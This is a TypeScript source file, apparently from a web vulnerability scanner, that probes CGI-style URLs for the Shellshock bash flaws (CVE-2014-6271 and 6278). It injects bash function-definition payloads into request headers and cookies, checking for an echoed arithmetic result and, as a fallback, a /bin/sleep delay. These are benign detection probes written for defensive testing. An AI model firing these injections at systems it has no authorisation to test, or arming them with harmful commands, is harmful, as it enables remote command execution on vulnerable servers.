// Shellshock: a header becomes an environment variable that an old bash runs when it starts (CVE-2014-6271, CVE-2014-6278).
import { defineCheck } from "../check.ts";
import type { PointCheck } from "../check.ts";
import { firstComputed } from "../execution/computed.ts";
import type { Formula } from "../execution/computed.ts";
import { firstDelayed } from "../execution/delay.ts";
import type { Route } from "../route.ts";

const functions = [["cve-2014-6271", "() { :; };"], ["cve-2014-6278", "() { _; } >_[$($())] {"]] as const;
const ends = { "cve-2014-6271": "", "cve-2014-6278": " }" } as const;

// RFC 3875 6.2: a CGI answer begins with header fields and an empty line, and what follows is the body.
const formulas: readonly Formula[] = functions.map(([id, opening]): Formula => ({
  technique: id, by: "An old bash that imported the header", result: ({ product }) => product,
  write: ({ left, right }) => `${opening} echo Content-Type: text/plain; echo; echo $((${left}*${right}));${ends[id]}`,
  control: ({ left, right }) => `${opening.replace("()", "(")} echo Content-Type: text/plain; echo; echo $((${left}*${right}));${ends[id]}`,
}));

const isCgi = ({ request }: Route): boolean => /\/cgi|\.(?:cgi|sh|bash|pl|fcgi)\b/i.test(new URL(request.url).pathname);

export const shellshock = defineCheck<PointCheck>({
  id: "shellshock", about: "A header is run by a bash that imports functions from its environment.",
  title: "Shellshock", cwe: 78, owasp: ["A06"], severity: "critical", risk: "payload", attackClass: "shellshock",
  remediation: "Install the bash of a supported release; every one since October 2014 is mended. Replace CGI programs that start shells.",
  // Which header of which program is not known beforehand: those that every browser sends, wherever an address looks like a program's.
  on: "point", everywhere: ["header:user-agent", "header:referer"],
  fits: ({ kind, name, route }) => ((kind === "header" && !/^(?:x-forwarded|accept-language|origin)/i.test(name)) || kind === "cookie") && isCgi(route),
  async *probe(point, tools) {
    if (!tools.allows("payload")) return;
    const proof = await firstComputed(point, tools, formulas)
      ?? (tools.allows("timing") ? await firstDelayed(point, tools, [{ technique: "cve-2014-6271", by: "An old bash that imported the header", write: (seconds) => `() { :; }; /bin/sleep ${seconds}` }]) : undefined);
    if (proof !== undefined) yield proof;
  },
});
